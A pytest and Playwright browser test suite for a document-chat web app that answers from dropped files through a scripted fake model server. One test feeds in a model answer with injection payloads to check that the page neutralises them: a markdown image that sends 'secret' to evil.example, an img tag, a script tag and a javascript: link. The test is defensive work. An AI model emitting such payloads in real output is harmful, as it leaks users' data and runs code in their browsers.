"""The page in a real browser, over a server that says what it is told to."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import psutil
import pytest
from e2e.driving import NO_PAUSE, READY, App, Tab, make_manual
from playwright.sync_api import Browser, Error, Route
from pypdf import PdfReader, PdfWriter
from scripted_server import Scripted, ScriptedServer

from rag.measuring.ledger import LEDGER, Ledger

pytestmark = pytest.mark.browser

QUESTION = "How many litres does the pump hold?"
LONG = [f"word{number} " for number in range(400)]


@pytest.fixture(scope="module")
def app(
    start_app: Callable[..., App],
    _scripted_server: ScriptedServer,
    tmp_path_factory: pytest.TempPathFactory,
) -> App:
    docs = tmp_path_factory.mktemp("docs")
    (docs / "garden.md").write_text("# Garden\n\nThe fountain runs in summer.\n", encoding="utf-8")
    _scripted_server.reset()  # of what other files asked it
    app = start_app(
        {
            "RAG_DOCS_DIR": str(docs),
            "RAG_SLM": f"{_scripted_server.base_url}#small",
            "RAG_LLM": f"{_scripted_server.base_url}#large",
            "RAG_MODE": "slm",  # what is judged and passed on is in test_judging.py
            "RAG_MAX_FILE_MB": "1",
        },
        NO_PAUSE,
    )
    deadline = time.monotonic() + 60
    while not _scripted_server.history:  # looked at once, before it is asked
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert _scripted_server.history[0].finished.wait(60)
    return app


@pytest.fixture(autouse=True)
def _fresh(scripted_server: ScriptedServer) -> None:
    """Every test begins with an empty script."""


@pytest.fixture
def manual(tmp_path: Path) -> Path:
    return make_manual(tmp_path / "pump manual.pdf")


def settle(tab: Tab) -> None:
    """Wait until the page can take the next question."""
    tab.page.wait_for_selector("#chat-submit")


def test_the_page_greets_when_it_is_opened(app: App, open_tab: Callable[..., Tab]) -> None:
    page = open_tab(app.url).page
    assert page.title() == "Edge RAG Chat"
    assert page.locator("#starters button").all_inner_texts() == [
        "What can you do?", "Which files can I drop in?", "Use another model",
        "Read the latency card",
    ]  # fmt: skip
    assert page.locator("#chat-input").get_attribute("data-placeholder") != ""


def test_a_dropped_pdf_answers_when_a_question_comes_with_it(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.ask(QUESTION)
    assert "The pump holds 40 litres of coolant" in tab.answer
    read = tab.page.locator('[data-step-type="tool"]').inner_text()
    assert "Read 1 file" in read
    assert "pump manual.pdf · 2 pages, 2 passages" in read


def test_a_file_answers_when_it_was_dropped_before_the_page_was_connected(
    app: App, browser: Browser, manual: Path
) -> None:
    context = browser.new_context(locale="en-US")
    tab = Tab(context.new_page())
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    tab.page.route("**/ws/socket.io/**", hold)  # the page's session begins with it
    tab.page.goto(app.url)
    tab.page.wait_for_selector("#upload-button-input", state="attached")
    with tab.page.expect_request("**/project/file**"):
        tab.page.set_input_files("#upload-button-input", str(manual))
    tab.page.unroute("**/ws/socket.io/**")
    for route in held:
        with suppress(Error):  # the page has given it up, and asks anew
            route.continue_()
    tab.ask("How many litres of coolant does the pump hold?")
    assert "40 litres" in tab.answer
    context.close()


def test_words_are_shown_when_the_answer_is_not_complete(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    scripted_server.script(Scripted(("It runs ", "in ", "summer", " but"), then="stall"))
    tab = open_tab(app.url)
    tab.type("When does the fountain run?")
    tab.send()
    tab.page.get_by_text("It runs in").wait_for()
    assert tab.page.locator(".rag-card").count() == 0
    tab.page.click("#stop-button")
    tab.page.get_by_text("Stopped.").wait_for()
    assert "It runs in summer but" in tab.answer


def test_a_citation_opens_its_passage_and_page_when_it_is_clicked(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.get_by_role("link", name="[1]").first.click()
    beside = tab.page.locator("#side-view-content")
    beside.locator("mark").first.wait_for()
    assert "The pump holds 40 litres" in beside.locator("mark").first.inner_text()
    assert "Page 2" in beside.locator(".rag-passage header").inner_text()
    assert "pump manual.pdf" in tab.page.locator("#side-view-title").inner_text()
    beside.locator("canvas").wait_for()  # the PDF itself
    assert "2 / 2" in beside.locator(".side-pdf").inner_text()
    assert "Maintenance" in beside.locator(".textLayer").inner_text()
    tab.ask("Which machine does the manual introduce?")  # and it stays
    assert "The pump holds 40 litres" in beside.locator("mark").first.inner_text()


def test_the_waterfall_adds_up_when_the_card_is_opened(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    frames: list[Any] = []

    def keep(frame: str | bytes) -> None:
        frames.append(frame)

    tab.page.on("websocket", lambda socket: socket.on("framereceived", keep))
    tab.page.reload()
    tab.page.wait_for_selector(READY)
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.click(".rag-summary")
    shown = tab.milliseconds()
    total = shown.pop("total")
    assert sum(shown.values()) == total
    assert {"retrieve", "pack", "first_token", "generate"} <= shown.keys()
    assert "small" in tab.page.locator(".rag-summary").inner_text()
    latency = metadata(frames)["latency_ms"]
    assert round(latency["total"]) == total
    parts = [ms for stage, ms in latency.items() if stage != "total" and ms is not None]
    assert sum(parts) == pytest.approx(latency["total"])


def metadata(frames: list[Any]) -> dict[str, Any]:
    """Of the last message whose metadata was sent to the page."""
    found = [
        event[1]["metadata"]
        for frame in frames
        if isinstance(frame, str) and frame.startswith("42")
        and (event := json.loads(frame[2:]))[0] in {"update_message", "new_message"}
        and "latency_ms" in event[1].get("metadata", {})
    ]  # fmt: skip
    last: dict[str, Any] = found[-1]
    return last


def test_the_search_is_told_when_its_step_is_opened(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.ask(QUESTION)
    step = tab.page.locator('[data-step-type="retrieval"]')
    assert re.search(r"Found \d+ passages?, \d+ read by the model", step.inner_text())
    step.locator("button").first.click()
    step.locator(".rag-search").wait_for()
    told = step.inner_text()
    assert QUESTION in told
    assert "pump manual.pdf" in told
    assert re.search(r"pump\s*hold", told)  # matched terms
    assert re.search(r"Room for passages: \d+ of \d+ tokens", told)


def test_the_next_turn_uses_it_when_a_model_is_chosen(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    tab = open_tab(app.url)
    tab.ask("When does the fountain run?")
    tab.choose("Answers", "mode", "Large model alone: slower, better")
    tab.ask("When does the fountain run?")
    tab.choose_model("llm", f"{scripted_server.base_url}#another")
    tab.ask("When does the fountain run?")
    models = dict.fromkeys(received.body["model"] for received in scripted_server.history)
    assert list(models) == ["small", "large", "another"]
    assert "another" in tab.page.locator(".rag-summary").last.inner_text()


def test_a_model_that_cannot_work_is_told_when_it_is_chosen(
    app: App, open_tab: Callable[..., Tab]
) -> None:
    tab = open_tab(app.url)
    tab.choose_model("slm", "nonsense")
    tab.page.get_by_text("names no model").wait_for()


def test_a_follow_up_knows_the_turn_before_when_it_is_asked(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    tab = open_tab(app.url)
    tab.ask("When does the fountain run?")
    tab.ask("And in winter?")
    prompt = scripted_server.history[-1].prompt
    assert "When does the fountain run?" in prompt
    assert "The fountain runs in summer." in prompt


def test_a_turn_ends_and_frees_the_server_when_it_is_stopped(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    scripted_server.script(Scripted(LONG, delay_s=0.05))
    tab = open_tab(app.url)
    tab.type("When does the fountain run?")
    tab.send()
    tab.page.get_by_text("word5").wait_for()
    tab.page.click("#stop-button")
    tab.page.get_by_text("Stopped.").wait_for()
    settle(tab)
    assert scripted_server.history[-1].disconnected.wait(10)
    assert "word5" in tab.answer
    assert "word399" not in tab.answer
    assert tab.page.get_by_text("Task manually stopped").count() == 0
    tab.ask("When does the fountain run?")
    assert "summer" in tab.answer
    assert "word5" not in scripted_server.history[-1].prompt
    routes = [noted.route for noted in Ledger(app.folder / "data" / LEDGER).entries()]
    assert "failed" in routes


def test_a_turn_ends_when_it_is_stopped_before_its_first_word(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    scripted_server.script(Scripted((), then="stall"))
    tab = open_tab(app.url)
    tab.type("When does the fountain run?")
    tab.send()
    tab.page.locator('[data-step-type="retrieval"]').wait_for()
    tab.page.click("#stop-button")
    tab.page.get_by_text("Stopped.").wait_for()
    settle(tab)
    assert tab.answer == "Stopped."


def test_a_fresh_chat_begins_when_the_address_is_opened_again(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    tab = open_tab(app.url)
    tab.ask("When does the fountain run?")
    tab.page.goto(app.url)
    tab.page.wait_for_selector(READY)
    tab.ask("What runs in summer?")
    assert "fountain" in tab.answer
    assert "When does the fountain run?" not in scripted_server.history[-1].prompt


def test_the_chat_goes_on_when_the_app_is_reloaded(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.ask("When does the fountain run?")
    tab.page.evaluate("window.isOld = true")
    with (app.folder / "app.py").open("a") as source:
        source.write("\n# edited\n")
    tab.page.wait_for_function("!window.isOld")  # -w has the page reload itself
    tab.page.wait_for_selector(READY)
    tab.drop(manual)
    tab.ask(QUESTION)
    assert "40 litres" in tab.answer
    assert "Reloading app" in (app.folder / "log.txt").read_text()


def test_bad_files_are_named_and_the_rest_goes_on_when_several_are_dropped(
    app: App, open_tab: Callable[..., Tab], manual: Path, tmp_path: Path
) -> None:
    (tmp_path / "broken.pdf").write_bytes(b"%PDF-1.7\nnothing of a PDF")
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "photo.xyz").write_bytes(b"\x00\x01\x02")
    encrypted = PdfWriter(clone_from=PdfReader(manual))
    encrypted.encrypt("secret", algorithm="RC4-128")
    encrypted.write(tmp_path / "locked.pdf")
    bad = ["broken.pdf", "empty.txt", "photo.xyz", "locked.pdf"]
    tab = open_tab(app.url)
    tab.drop(*(tmp_path / name for name in bad), manual)
    tab.ask(QUESTION)
    told = tab.page.locator('[data-step-type="assistant_message"]').first.inner_text()
    for name in bad:
        assert re.search(rf"{re.escape(name)}: \S+ .*\.", told), told
    assert "Read 1 of 5 files" in tab.page.locator('[data-step-type="tool"]').inner_text()
    assert "40 litres" in tab.answer


def test_a_file_is_refused_by_name_when_it_is_too_large(
    app: App, open_tab: Callable[..., Tab], tmp_path: Path
) -> None:
    (tmp_path / "huge.txt").write_bytes(b"word " * 300_000)
    tab = open_tab(app.url)
    tab.page.set_input_files("#upload-button-input", str(tmp_path / "huge.txt"))
    tab.page.get_by_text("huge.txt: It is larger than 1 MB.").wait_for()
    tab.faults.clear()  # the browser reports the refusal in its console, too


def test_files_are_acknowledged_when_no_question_comes_with_them(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.send()
    tab.page.get_by_text("can now be asked about").wait_for()
    settle(tab)
    tab.drop(manual)
    tab.send()
    tab.page.get_by_text("already in this chat").wait_for()


def test_a_turn_ends_when_it_is_stopped_while_files_are_read(
    app: App, open_tab: Callable[..., Tab], manual: Path, tmp_path: Path
) -> None:
    (tmp_path / "note.txt").write_text("The kettle is blue.\n")
    tab = open_tab(app.url)
    tab.drop(tmp_path / "note.txt")  # and the processes that read are there
    tab.ask("Which colour has the kettle?")
    readers = psutil.Process(app.process.pid).children(recursive=True)
    for reader in readers:
        reader.suspend()
    tab.drop(manual)
    tab.type(QUESTION)
    tab.send()
    tab.page.get_by_text("Reading 1 file").wait_for()
    tab.page.click("#stop-button")
    tab.page.get_by_text("Stopped.").wait_for()
    settle(tab)
    for reader in readers:
        with suppress(psutil.NoSuchProcess):  # one that was at it is ended
            reader.resume()
    assert tab.page.locator(".rag-card").count() == 1
    tab.drop(manual.rename(tmp_path / "again.pdf"))
    tab.ask(QUESTION)
    assert "40 litres" in tab.answer


def test_nothing_of_a_document_is_found_when_it_was_removed(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.click('a[href="#documents"]')
    panel = tab.page.locator(".rag-documents")
    panel.get_by_text("pump manual.pdf").wait_for()
    assert panel.get_by_text("garden.md").count() == 1
    panel.get_by_role("button", name="Remove: pump manual.pdf").click()
    panel.get_by_role("button", name="Remove for good?").click()
    panel.get_by_text("pump manual.pdf").wait_for(state="detached")
    tab.ask("What are the litres of coolant?")
    assert "pump manual.pdf" not in tab.page.locator(".rag-card").last.inner_text()
    assert "40 litres" not in tab.answer


def test_the_list_is_filtered_when_a_name_is_typed(app: App, open_tab: Callable[..., Tab]) -> None:
    tab = open_tab(app.url)
    tab.page.click('a[href="#documents"]')
    tab.page.fill(".rag-documents input", "nothing")
    tab.page.get_by_text("No document of that name.").wait_for()
    tab.page.fill(".rag-documents input", "GARD")
    tab.page.locator(".rag-documents").get_by_text("garden.md").wait_for()


def test_only_chosen_documents_answer_when_the_search_is_narrowed(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url)
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.click("#chat-settings-open-modal")
    tab.page.get_by_placeholder("Select...").click()
    tab.page.get_by_role("option", name="garden.md").click()
    tab.page.click("#confirm")
    tab.ask("Does the pump or the fountain run in summer?")
    sources = tab.page.locator(".rag-card").last.locator(".rag-source").all_inner_texts()
    assert sources
    assert all("garden.md" in source for source in sources)


def test_a_question_is_answered_anew_when_it_is_edited(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    tab = open_tab(app.url)
    tab.ask("When does the fountain rest?")
    tab.page.locator('[data-step-type="user_message"]').hover()
    tab.page.click(".edit-message")
    tab.page.fill("#edit-chat-input", "When does the fountain run?")
    tab.page.click(".confirm-edit")
    tab.page.locator(".rag-card").wait_for()
    settle(tab)
    assert "summer" in tab.answer
    assert "rest" not in scripted_server.history[-1].prompt
    assert tab.page.locator('[data-step-type="retrieval"]').count() == 1


@pytest.mark.parametrize(
    ("reply", "sentence"),
    [
        (Scripted(status=401, error={"message": "Incorrect key"}), "key"),
        (Scripted(status=500, error={"message": "internal"}), "."),
        (Scripted(body="<html>not a model</html>", content_type="text/html"), "."),
    ],
)
def test_a_failure_is_one_sentence_when_the_model_refuses(
    app: App,
    open_tab: Callable[..., Tab],
    scripted_server: ScriptedServer,
    reply: Scripted,
    sentence: str,
) -> None:
    scripted_server.fallback = reply
    tab = open_tab(app.url)
    tab.type("When does the fountain run?")
    tab.send()
    message = tab.page.locator('[data-step-type="assistant_message"]').last
    message.wait_for()
    settle(tab)
    assert sentence in message.inner_text()
    assert "Traceback" not in tab.page.content()
    scripted_server.reset()
    tab.ask("When does the fountain run?")
    assert "summer" in tab.answer


def test_the_beginning_stays_when_an_answer_breaks_off(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    scripted_server.script(Scripted(("The fountain ", "runs "), then="disconnect"))
    tab = open_tab(app.url)
    tab.type("When does the fountain run?")
    tab.send()
    tab.page.get_by_text("The answer broke off here.").wait_for()
    settle(tab)
    assert "The fountain runs" in tab.page.content()


def test_nothing_is_loaded_or_run_when_the_answer_holds_markup(
    app: App, open_tab: Callable[..., Tab], scripted_server: ScriptedServer
) -> None:
    text = (
        "![a](https://evil.example/a.png?q=secret) <img src=https://evil.example/b.png> "
        "<script>document.title='owned'</script> [c](javascript:alert(1)) model:latest [1]"
    )
    scripted_server.script(Scripted(re.findall(r"\S+\s*", text)))
    tab = open_tab(app.url)
    tab.ask("When does the fountain run?")
    assert tab.page.locator(".message-content img").count() == 0
    assert tab.page.title() == "Edge RAG Chat"
    assert "model:latest" in tab.answer
    addresses = [
        link.get_attribute("href") for link in tab.page.locator(".message-content a").all()
    ]
    assert not any((address or "").startswith("javascript") for address in addresses)


def test_a_name_is_shown_as_text_when_it_looks_like_markup(
    app: App, open_tab: Callable[..., Tab], tmp_path: Path
) -> None:
    name = "![x](https:evil.example) <b>bold</b> [1] `a`.md"
    path = tmp_path / name.replace("/", "∕")
    path.write_text("# Notes\n\nThe kettle is blue.\n")
    tab = open_tab(app.url)
    tab.drop(path)
    tab.ask("Which colour has the kettle?")
    tab.page.click('a[href="#documents"]')
    tab.page.locator(".rag-documents").get_by_text(path.name).wait_for()
    assert path.name in tab.page.locator('[data-step-type="tool"]').inner_text()
    assert tab.page.locator("#root b").count() == 0


@pytest.mark.parametrize("locale", ["ro-RO", "ro"])
def test_the_page_speaks_romanian_when_the_browser_does(
    app: App, open_tab: Callable[..., Tab], manual: Path, locale: str
) -> None:
    tab = open_tab(app.url, locale=locale)
    assert "Ce știi să faci?" in tab.page.locator("#starters").inner_text()
    tab.page.get_by_text("Documente", exact=True).wait_for()
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.click(".rag-summary")
    details = tab.page.locator(".rag-details").inner_text()
    assert "Căutare" in details
    assert "Scriere" in details
    assert "Pasaje găsite" in tab.page.locator('[data-step-type="retrieval"]').inner_text()
    assert tab.page.evaluate("document.documentElement.lang") == locale
    tab.page.click("#readme-button")
    tab.page.get_by_text("Discutați cu propriile documente").wait_for()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_theme_is_the_systems_when_none_was_chosen(
    app: App, open_tab: Callable[..., Tab], scheme: str
) -> None:
    page = open_tab(app.url, color_scheme=scheme).page
    assert scheme in page.evaluate("document.documentElement.className")


def test_nothing_is_cut_off_when_the_screen_is_narrow(
    app: App, open_tab: Callable[..., Tab], manual: Path
) -> None:
    tab = open_tab(app.url, viewport={"width": 390, "height": 844})
    tab.drop(manual)
    tab.ask(QUESTION)
    tab.page.click(".rag-summary")
    tab.page.locator('[data-step-type="retrieval"] button').first.click()
    tab.page.locator(".rag-search").wait_for()
    assert tab.page.evaluate("document.documentElement.scrollWidth") <= 390
    card = tab.page.locator(".rag-card").bounding_box()
    assert card is not None
    assert card["x"] + card["width"] <= 390


def test_a_bad_setting_is_told_on_the_page_when_a_model_is_none(
    start_app: Callable[[Mapping[str, str]], App], open_tab: Callable[..., Tab]
) -> None:
    app = start_app({"RAG_SLM": "nonsense"})
    tab = open_tab(app.url, ready="#readme-button")
    tab.page.get_by_text("names no model").wait_for()
    assert "Traceback" not in tab.page.content()
